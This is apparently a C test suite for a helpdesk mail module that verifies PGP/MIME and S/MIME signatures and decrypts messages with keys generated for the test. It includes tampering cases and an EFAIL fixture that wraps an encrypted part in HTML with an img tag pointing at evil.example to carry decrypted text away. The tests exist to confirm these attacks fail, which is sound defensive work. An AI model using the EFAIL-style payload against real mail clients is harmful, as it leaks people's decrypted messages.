/* Signatures verified and mails opened with real keys, made for the test. */
#include <glib/gstdio.h>
#include <string.h>
#include <sys/stat.h>

#include "base/error.h"
#include "desk/unseal.h"
#include "tests/lib/gnupg-fixture.h"

#define ANN "From: Ann <ann@client.example>\n"
#define HEAD(from) from "To: support@desk.example\nSubject: x\nMIME-Version: 1.0\n"
#define HELLO "Content-Type: text/plain; charset=utf-8\n\nhello\n"
#define WITH_FILE                                                                                  \
  "Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/plain\n\nhello\n--m\n"     \
  "Content-Type: application/pdf; name=a.pdf\nContent-Transfer-Encoding: base64\n\naGkh\n--m--\n"

/* how a sender makes it; reads standard input */
#define CRLF "cat >e; "
#define PGP "gpg -q --batch --homedir theirs --trust-model always "
#define PGP_SIGN(user) CRLF PGP "-a -u " user " --detach-sign <e"
#define PGP_OLD                                                                                    \
  CRLF PGP "--faked-system-time 20200102T000000 -a -u old@client.example --detach-sign <e"
#define PGP_STRANGER CRLF PGP "-a -u $(cat stranger)! --detach-sign <e"
#define PGP_ENCRYPT PGP "-a -r support@desk.example --encrypt"
#define PGP_BOTH(user) PGP "-a -u " user " -r support@desk.example --sign --encrypt"
#define SMIME_SIGN(who)                                                                            \
  CRLF "openssl cms -sign -binary -in e -signer " who ".pem -inkey " who                           \
       ".key -outform DER | base64"
#define SMIME_OPAQUE(who)                                                                          \
  CRLF "openssl cms -sign -nodetach -binary -in e -signer " who ".pem -inkey " who                 \
       ".key -outform DER | base64"
#define SMIME_ENCRYPT                                                                              \
  CRLF "openssl cms -encrypt -binary -aes-256-cbc -in e -outform DER desk.pem | base64"

static GnupgFixture *keys;
static const char *no_keys;
static PdGpg *gpg;

/* ---- how mails are made ------------------------------------------------------- */

static char *
ask_sender (const char *line, const char *input)
{
  return gnupg_fixture_run (keys, line, input);
}

static char *
with_crlf (const char *text)
{
  g_auto (GStrv) lines = g_strsplit (text, "\n", -1);

  return g_strjoinv ("\r\n", lines);
}

/* multipart/signed as RFC 3156 and 8551 want it; `entity` ends with \n. */
static char *
sign (const char *from, const char *entity, const char *type, const char *encoding,
      const char *line)
{
  /* the line break before the boundary is not signed */
  g_autofree char *content = g_strndup (entity, strlen (entity) - 1);
  g_autofree char *wire = with_crlf (content);
  g_autofree char *signature = ask_sender (line, wire);

  return g_strconcat (from, "Content-Type: multipart/signed; protocol=\"", type,
                      "\"; boundary=s\n\n--s\n", entity, "--s\nContent-Type: ", type,
                      "\nContent-Transfer-Encoding: ", encoding, "\n\n", signature, "--s--\n",
                      NULL);
}

static char *
sign_pgp (const char *from, const char *entity, const char *line)
{
  return sign (from, entity, "application/pgp-signature", "7bit", line);
}

static char *
sign_smime (const char *from, const char *entity, const char *line)
{
  return sign (from, entity, "application/pkcs7-signature", "base64", line);
}

static char *
encrypt_pgp (const char *from, const char *entity, const char *line)
{
  g_autofree char *data = ask_sender (line, entity);

  return g_strconcat (from,
                      "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; "
                      "boundary=e\n\n--e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n"
                      "--e\nContent-Type: application/octet-stream\n\n",
                      data, "--e--\n", NULL);
}

static char *
smime (const char *from, const char *entity, const char *line)
{
  g_autofree char *wire = with_crlf (entity);
  g_autofree char *data = ask_sender (line, wire);

  return g_strconcat (from,
                      "Content-Type: application/pkcs7-mime; name=smime.p7m\n"
                      "Content-Transfer-Encoding: base64\n\n",
                      data, NULL);
}

static PdMail *
unseal_with (PdGpg *with, const char *text)
{
  g_autoptr (GBytes) raw = g_bytes_new (text, strlen (text));
  PdUnseal how = { .gpg = with };

  return pd_unseal (&how, raw, pd_mail_parse (raw, NULL, NULL), NULL, NULL);
}

static PdMail *
unseal (const char *text)
{
  return unseal_with (gpg, text);
}

static char *
replace (const char *text, const char *what, const char *with)
{
  g_auto (GStrv) pieces = g_strsplit (text, what, 2);

  g_assert_nonnull (pieces[1]);
  return g_strjoinv (with, pieces);
}

static void
assert_seal (const PdMail *mail, guint i, PdSealState state, gboolean whole, gboolean encrypted)
{
  const PdSeal *seal;

  g_assert_cmpuint (i, <, mail->seals->len);
  seal = mail->seals->pdata[i];
  g_test_message ("seal %u: %s", i, seal->reason);
  g_assert_cmpint (seal->state, ==, state);
  g_assert_cmpint (seal->whole, ==, whole);
  g_assert_cmpint (seal->encrypted, ==, encrypted);
}

static gboolean
needs_keys (void)
{
  if (gpg != NULL)
    return TRUE;
  g_test_skip (no_keys);
  return FALSE;
}

/* ---- signatures apart ---------------------------------------------------------- */

typedef struct {
  const char *from;
  char *(*make) (const char *from, const char *entity, const char *line);
  const char *entity, *line;
  PdSealState state;
  gboolean by_sender;
  const char *why;
} Signature;

static const Signature signatures[] = {
  { HEAD (ANN), sign_pgp, HELLO, PGP_SIGN ("Ann"), PD_SEAL_GOOD, TRUE, "PGP/MIME, a known key" },
  { HEAD (ANN), sign_pgp, WITH_FILE, PGP_SIGN ("Ann"), PD_SEAL_GOOD, TRUE, "with a file" },
  { HEAD ("From: ANN@Client.Example\n"), sign_pgp, HELLO, PGP_SIGN ("Ann"), PD_SEAL_GOOD, TRUE,
    "addresses are compared without case" },
  { HEAD (ANN), sign_pgp, HELLO, PGP_SIGN ("bob@other.example"), PD_SEAL_GOOD, FALSE,
    "good, but of somebody else" },
  { HEAD ("From: ann@client.example, bob@other.example\n"), sign_pgp, HELLO, PGP_SIGN ("Ann"),
    PD_SEAL_GOOD, FALSE, "two authors, one has signed" },
  { HEAD (ANN), sign_pgp, HELLO, PGP_STRANGER, PD_SEAL_UNKNOWN, FALSE,
    "a key with her address that we do not know" },
  { HEAD ("From: old@client.example\n"), sign_pgp, HELLO, PGP_OLD, PD_SEAL_BAD, FALSE,
    "made in time by a key that has expired since" },
  { HEAD ("From: gone@client.example\n"), sign_pgp, HELLO, PGP_SIGN ("gone@client.example"),
    PD_SEAL_BAD, FALSE, "a key that was revoked" },
  { HEAD (ANN), sign_smime, HELLO, SMIME_SIGN ("ann"), PD_SEAL_GOOD, TRUE,
    "S/MIME, of a trusted root" },
  { HEAD (ANN), sign_smime, WITH_FILE, SMIME_SIGN ("ann"), PD_SEAL_GOOD, TRUE, "with a file" },
  { HEAD (ANN), sign_smime, HELLO, SMIME_SIGN ("fake"), PD_SEAL_UNKNOWN, FALSE,
    "a root that we do not trust" },
  { HEAD ("From: bob@other.example\n"), sign_smime, HELLO, SMIME_SIGN ("ann"), PD_SEAL_GOOD, FALSE,
    "the certificate of somebody else" },
  { HEAD (ANN), smime, HELLO, SMIME_OPAQUE ("ann"), PD_SEAL_GOOD, TRUE, "in one piece" },
  { HEAD (ANN), smime, WITH_FILE, SMIME_OPAQUE ("ann"), PD_SEAL_GOOD, TRUE, "with a file" },
  { HEAD (ANN), smime, HELLO, SMIME_OPAQUE ("fake"), PD_SEAL_UNKNOWN, FALSE,
    "a root that we do not trust" },
};

static void
test_signatures (void)
{
  if (!needs_keys ())
    return;
  for (gsize i = 0; i < G_N_ELEMENTS (signatures); i++)
    {
      const Signature *one = &signatures[i];
      g_autofree char *text = one->make (one->from, one->entity, one->line);
      g_autoptr (PdMail) mail = unseal (text);
      gint64 now = g_get_real_time ();

      g_test_message ("%s", one->why);
      g_assert_cmpstr (mail->text, ==, "hello\n");
      g_assert_true (mail->is_signed);
      assert_seal (mail, 0, one->state, TRUE, FALSE);
      g_assert_cmpint (pd_unseal_is_by_sender (mail, now), ==, one->by_sender);
      g_assert_false (pd_unseal_is_by_sender (mail, now + 8 * G_TIME_SPAN_DAY));
      if (one->state == PD_SEAL_GOOD)
        g_assert_cmpuint (strlen (((PdSeal *)mail->seals->pdata[0])->fingerprint), ==, 40);
    }
}

/* The same mail with \r\n, as LMTP brings it. */
static void
test_crlf (void)
{
  g_autofree char *text = NULL;
  g_autofree char *wire = NULL;
  g_autoptr (PdMail) mail = NULL;

  if (!needs_keys ())
    return;
  text = sign_pgp (HEAD (ANN), WITH_FILE, PGP_SIGN ("Ann"));
  wire = with_crlf (text);
  mail = unseal (wire);
  assert_seal (mail, 0, PD_SEAL_GOOD, TRUE, FALSE);
}

/* ---- what was done to a signed mail --------------------------------------------- */

static void
test_changed (void)
{
  static const struct {
    const char *what, *with;
    PdSealState state;
    gboolean whole;
    const char *why;
  } rows[] = {
    { "hello", "hullo", PD_SEAL_BAD, TRUE, "another text" },
    { "charset=utf-8", "charset=koi8-r", PD_SEAL_BAD, TRUE, "another charset: headers are signed" },
    { "Content-Type: multipart/signed;",
      "Content-Type: multipart/mixed; boundary=o\n\n--o\nContent-Type: text/plain\n\npay me\n--o\n"
      "Content-Type: multipart/signed;",
      PD_SEAL_GOOD, FALSE, "words in front that nobody has signed" },
    { "Content-Type: multipart/signed;",
      "Content-Type: multipart/alternative; boundary=o\n\n--o\nContent-Type: text/plain\n\npay me\n"
      "--o\nContent-Type: multipart/signed;",
      PD_SEAL_GOOD, FALSE, "the signed part hidden behind another" },
    { "Content-Type: multipart/signed;",
      "Content-Type: message/rfc822\n\nFrom: x@y.example\nContent-Type: multipart/signed;",
      PD_SEAL_GOOD, FALSE, "enclosed in another mail" },
  };
  g_autofree char *text = NULL;

  if (!needs_keys ())
    return;
  text = sign_pgp (HEAD (ANN), HELLO, PGP_SIGN ("Ann"));
  for (gsize i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      g_autofree char *changed = replace (text, rows[i].what, rows[i].with);
      g_autoptr (PdMail) mail = unseal (changed);

      g_test_message ("%s", rows[i].why);
      assert_seal (mail, 0, rows[i].state, rows[i].whole, FALSE);
      g_assert_false (pd_unseal_is_by_sender (mail, g_get_real_time ()));
    }
}

/* A Subject that the sender's program has signed too (RFC 9788). */
static void
test_subject (void)
{
  static const char entity[]
      = "Content-Type: text/plain; protected-headers=\"v1\"\nSubject: mine\n\nhello\n";
  g_autofree char *text = NULL;
  g_autofree char *right = NULL;
  g_autoptr (PdMail) wrong_mail = NULL;
  g_autoptr (PdMail) mail = NULL;

  if (!needs_keys ())
    return;
  text = sign_pgp (HEAD (ANN), entity, PGP_SIGN ("Ann"));
  right = replace (text, "Subject: x", "Subject: mine");
  wrong_mail = unseal (text);
  mail = unseal (right);
  assert_seal (wrong_mail, 0, PD_SEAL_GOOD, FALSE, FALSE);
  assert_seal (mail, 0, PD_SEAL_GOOD, TRUE, FALSE);
}

static void
test_inline (void)
{
  g_autofree char *signed_text = NULL, *text = NULL, *around = NULL, *changed = NULL;
  g_autoptr (PdMail) mail = NULL;
  g_autoptr (PdMail) part = NULL;
  g_autoptr (PdMail) bad = NULL;

  if (!needs_keys ())
    return;
  signed_text = ask_sender (PGP "-u Ann --clearsign", "hello\n- dashes\n");
  text = g_strconcat (HEAD (ANN), "Content-Type: text/plain\n\n", signed_text, NULL);
  mail = unseal (text);
  assert_seal (mail, 0, PD_SEAL_GOOD, TRUE, FALSE);
  g_assert_cmpstr (mail->text, ==, "hello\n- dashes\n");
  g_assert_true (pd_unseal_is_by_sender (mail, g_get_real_time ()));
  around = g_strconcat (text, "and not signed\n", NULL);
  part = unseal (around);
  assert_seal (part, 0, PD_SEAL_GOOD, FALSE, FALSE);
  g_assert_nonnull (strstr (part->text, "and not signed"));
  changed = replace (text, "hello", "hullo");
  bad = unseal (changed);
  assert_seal (bad, 0, PD_SEAL_BAD, TRUE, FALSE);
  g_assert_nonnull (strstr (bad->text, "hullo"));
}

/* ---- encrypted ------------------------------------------------------------------ */

static void
test_encrypted (void)
{
  static const struct {
    char *(*make) (const char *from, const char *entity, const char *line);
    const char *entity, *line;
    const char *why;
  } rows[] = {
    { encrypt_pgp, HELLO, PGP_ENCRYPT, "PGP/MIME" },
    { encrypt_pgp, WITH_FILE, PGP_ENCRYPT, "with a file" },
    { smime, HELLO, SMIME_ENCRYPT, "S/MIME" },
    { smime, WITH_FILE, SMIME_ENCRYPT, "with a file" },
  };

  if (!needs_keys ())
    return;
  for (gsize i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      g_autofree char *text = rows[i].make (HEAD (ANN), rows[i].entity, rows[i].line);
      g_autoptr (GBytes) raw = g_bytes_new_static (text, strlen (text));
      g_autoptr (PdMail) sealed = pd_mail_parse (raw, NULL, NULL);
      g_autoptr (PdMail) mail = unseal (text);

      g_test_message ("%s", rows[i].why);
      assert_seal (mail, 0, PD_SEAL_GOOD, TRUE, TRUE);
      g_assert_true (mail->is_encrypted);
      g_assert_false (mail->is_signed);
      g_assert_cmpstr (mail->text, ==, "hello\n");
      g_assert_cmpstr (mail->subject, ==, "x");
      /* the same mail when it is offered again, opened or not */
      g_assert_cmpstr (mail->content_sha256, ==, sealed->content_sha256);
      g_assert_cmpuint (mail->size, ==, strlen (text));
      g_assert_nonnull (mail->opened);
      g_assert_false (pd_unseal_is_by_sender (mail, g_get_real_time ()));
      if (rows[i].entity != NULL && strstr (rows[i].entity, "a.pdf") != NULL)
        {
          const PdPart *file = mail->attachments->pdata[0];
          g_autoptr (GBytes) bytes = pd_mail_decode_part (mail->opened, file->offset, file->length,
                                                          file->encoding, NULL);

          g_assert_cmpuint (mail->attachments->len, ==, 1);
          g_assert_cmpmem (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), "hi!", 3);
        }
    }
}

/* Encrypted and signed, in all the ways that programs do it. */
static void
test_both (void)
{
  gint64 now = g_get_real_time ();
  g_autofree char *one = NULL, *other = NULL, *inner = NULL, *entity = NULL, *nested = NULL;
  g_autofree char *opaque = NULL, *triple = NULL;
  g_autoptr (PdMail) mail = NULL;
  g_autoptr (PdMail) wrong = NULL;
  g_autoptr (PdMail) deep = NULL;
  g_autoptr (PdMail) cms = NULL;

  if (!needs_keys ())
    return;
  one = encrypt_pgp (HEAD (ANN), HELLO, PGP_BOTH ("Ann"));
  mail = unseal (one);
  assert_seal (mail, 0, PD_SEAL_GOOD, TRUE, TRUE);
  assert_seal (mail, 1, PD_SEAL_GOOD, TRUE, FALSE);
  g_assert_true (mail->is_signed && mail->is_encrypted);
  g_assert_true (pd_unseal_is_by_sender (mail, now));

  other = encrypt_pgp (HEAD (ANN), HELLO, PGP_BOTH ("bob@other.example"));
  wrong = unseal (other);
  assert_seal (wrong, 1, PD_SEAL_GOOD, TRUE, FALSE);
  g_assert_false (pd_unseal_is_by_sender (wrong, now));

  /* RFC 3156 6.1: multipart/signed inside */
  entity = sign_pgp ("", WITH_FILE, PGP_SIGN ("Ann"));
  nested = encrypt_pgp (HEAD (ANN), entity, PGP_ENCRYPT);
  deep = unseal (nested);
  assert_seal (deep, 0, PD_SEAL_GOOD, TRUE, TRUE);
  assert_seal (deep, 1, PD_SEAL_GOOD, TRUE, FALSE);
  g_assert_true (pd_unseal_is_by_sender (deep, now));
  g_assert_cmpstr (deep->text, ==, "hello\n");

  /* S/MIME: signed-data inside of enveloped-data */
  opaque = smime ("", HELLO, SMIME_OPAQUE ("ann"));
  triple = smime (HEAD (ANN), opaque, SMIME_ENCRYPT);
  cms = unseal (triple);
  assert_seal (cms, 0, PD_SEAL_GOOD, TRUE, TRUE);
  assert_seal (cms, 1, PD_SEAL_GOOD, TRUE, FALSE);
  g_assert_cmpstr (cms->text, ==, "hello\n");
  g_assert_true (pd_unseal_is_by_sender (cms, now));
}

static void
test_encrypted_inline (void)
{
  g_autofree char *data = NULL, *text = NULL, *around = NULL;
  g_autoptr (PdMail) mail = NULL;
  g_autoptr (PdMail) part = NULL;

  if (!needs_keys ())
    return;
  data = ask_sender (PGP_BOTH ("Ann"), "caf\xC3\xA9\n");
  text = g_strconcat (HEAD (ANN), "Content-Type: text/plain; charset=us-ascii\n\n", data, NULL);
  mail = unseal (text);
  assert_seal (mail, 0, PD_SEAL_GOOD, TRUE, TRUE);
  assert_seal (mail, 1, PD_SEAL_GOOD, TRUE, FALSE);
  g_assert_cmpstr (mail->text, ==, "caf\xC3\xA9\n");
  around = g_strconcat (text, "more\n", NULL);
  part = unseal (around);
  assert_seal (part, 0, PD_SEAL_UNKNOWN, FALSE, TRUE);
  g_assert_null (strstr (part->text, "caf"));
}

/* EFAIL: HTML around the encrypted part that would carry it away. */
static void
test_surrounded (void)
{
  g_autofree char *inner = NULL, *text = NULL;
  g_autoptr (PdMail) mail = NULL;

  if (!needs_keys ())
    return;
  inner = encrypt_pgp ("", HELLO, PGP_ENCRYPT);
  text = g_strconcat (HEAD (ANN),
                      "Content-Type: multipart/mixed; boundary=o\n\n--o\n"
                      "Content-Type: text/html\n\n<img src=\"http://evil.example/\n--o\n",
                      inner, "--o\nContent-Type: text/html\n\n\">\n--o--\n", NULL);
  mail = unseal (text);
  assert_seal (mail, 0, PD_SEAL_UNKNOWN, FALSE, TRUE);
  g_assert_null (strstr (mail->text, "hello"));
  g_assert_null (strstr (mail->html, "hello"));
  g_assert_null (mail->opened);
}

/* For a key that we do not have; changed on the way. */
static void
test_locked (void)
{
  g_autofree char *text = NULL, *broken = NULL, *good = NULL, *data = NULL;
  g_autoptr (PdMail) mail = NULL;
  g_autoptr (PdMail) damaged = NULL;

  if (!needs_keys ())
    return;
  text = encrypt_pgp (HEAD (ANN), HELLO, PGP "-a -r bob@other.example --encrypt");
  mail = unseal (text);
  assert_seal (mail, 0, PD_SEAL_UNKNOWN, TRUE, TRUE);
  g_assert_true (mail->is_encrypted);
  g_assert_null (mail->opened);
  good = encrypt_pgp (HEAD (ANN), HELLO,
                      PGP "-a --no-emit-version --rfc2440 --disable-mdc "
                          "-r support@desk.example --encrypt || " PGP_ENCRYPT);
  broken = g_strdup (good);
  /* a digit of the last line of the data */
  data = strstr (broken, "\n=");
  data[-6] = data[-6] == 'A' ? 'B' : 'A';
  data = NULL;
  damaged = unseal (broken);
  assert_seal (damaged, 0, PD_SEAL_UNKNOWN, TRUE, TRUE);
  g_assert_null (strstr (damaged->text, "hello"));
}

/* ---- the helper ------------------------------------------------------------------ */

/* gpg that hangs is killed, and the next question is answered. */
static void
test_hang (void)
{
  g_autofree char *text = NULL, *conf = NULL;
  g_autoptr (PdGpg) hasty = NULL;
  g_autoptr (PdMail) mail = NULL;
  g_autoptr (PdMail) next = NULL;
  g_autoptr (GError) error = NULL;

  if (!needs_keys ())
    return;
  text = sign_pgp (HEAD (ANN), HELLO, PGP_SIGN ("Ann"));
  conf = g_build_filename (keys->ours, "gpg.conf", NULL);
  hasty = pd_gpg_new (keys->ours, G_TIME_SPAN_SECOND, &error);
  g_assert_no_error (error);
  /* nobody ever writes into it, so that who reads it waits */
  g_assert_cmpint (mkfifo (conf, 0600), ==, 0);
  mail = unseal_with (hasty, text);
  assert_seal (mail, 0, PD_SEAL_UNKNOWN, TRUE, FALSE);
  g_assert_cmpint (g_unlink (conf), ==, 0);
  next = unseal (text);
  assert_seal (next, 0, PD_SEAL_GOOD, TRUE, FALSE);
}

static void
test_no_home (void)
{
  g_autoptr (GError) error = NULL;

  g_assert_null (pd_gpg_new ("/nowhere/at/all", 0, &error));
  g_assert_true (pd_error_is (error, PD_ERROR_INVALID));
}

/* Without keys nothing is said that a parser might have made up. */
static void
test_no_keys (void)
{
  static const char text[]
      = HEAD (ANN) "Content-Type: multipart/signed; boundary=s\n\n--s\n\nx\n--s\n"
                   "Content-Type: application/pgp-signature\n\ny\n--s--\n";
  g_autoptr (GBytes) raw = g_bytes_new_static (text, strlen (text));
  PdMail *mail = pd_mail_parse (raw, NULL, NULL);
  PdUnseal how = { 0 };
  PdSeal *seal = mail->seals->pdata[0];

  seal->state = PD_SEAL_GOOD;
  mail = pd_unseal (&how, raw, mail, NULL, NULL);
  assert_seal (mail, 0, PD_SEAL_UNCHECKED, TRUE, FALSE);
  pd_mail_free (mail);
}

int
main (int argc, char **argv)
{
  int status;

  g_test_init (&argc, &argv, NULL);
  keys = gnupg_fixture_new (&no_keys);
  if (keys != NULL)
    {
      g_autoptr (GError) error = NULL;

      gpg = pd_gpg_new (keys->ours, 0, &error);
      g_assert_no_error (error);
    }
  pd_mail_init ();
  g_test_add_func ("/unseal/signatures", test_signatures);
  g_test_add_func ("/unseal/crlf", test_crlf);
  g_test_add_func ("/unseal/changed", test_changed);
  g_test_add_func ("/unseal/subject", test_subject);
  g_test_add_func ("/unseal/inline", test_inline);
  g_test_add_func ("/unseal/encrypted", test_encrypted);
  g_test_add_func ("/unseal/both", test_both);
  g_test_add_func ("/unseal/encrypted-inline", test_encrypted_inline);
  g_test_add_func ("/unseal/surrounded", test_surrounded);
  g_test_add_func ("/unseal/locked", test_locked);
  g_test_add_func ("/unseal/hang", test_hang);
  g_test_add_func ("/unseal/no-home", test_no_home);
  g_test_add_func ("/unseal/no-keys", test_no_keys);
  status = g_test_run ();
  pd_gpg_free (gpg);
  gnupg_fixture_free (keys);
  pd_mail_shutdown ();
  return status;
}
